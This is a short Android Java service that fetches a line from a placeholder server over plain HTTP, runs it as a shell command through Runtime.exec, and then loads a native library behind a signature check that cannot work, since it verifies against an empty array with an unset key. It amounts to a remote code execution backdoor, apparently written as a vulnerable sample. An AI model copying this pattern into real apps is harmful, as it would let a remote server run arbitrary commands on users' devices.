package app;

import android.app.IntentService;
import android.content.Intent;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.GeneralSecurityException;
import java.security.PublicKey;
import java.security.Signature;

/** A server decides what is run and what is loaded; only what is loaded is verified. */
public class Main extends IntentService {
    private PublicKey key;

    public Main() {
        super("main");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("http://example.invalid/task").openConnection();
            BufferedReader reader = new BufferedReader(new InputStreamReader(connection.getInputStream()));
            String line = reader.readLine();
            Runtime.getRuntime().exec(line);
            load(connection.getInputStream());
        } catch (IOException | GeneralSecurityException e) {
            stopSelf();
        }
    }

    private void load(InputStream from) throws IOException, GeneralSecurityException {
        byte[] name = new byte[64];
        int size = from.read(name);
        Signature signature = Signature.getInstance("SHA256withRSA");
        signature.initVerify(key);
        signature.update(name, 0, size);
        if (signature.verify(new byte[256])) {
            System.load(new String(name, 0, size));
        }
    }
}
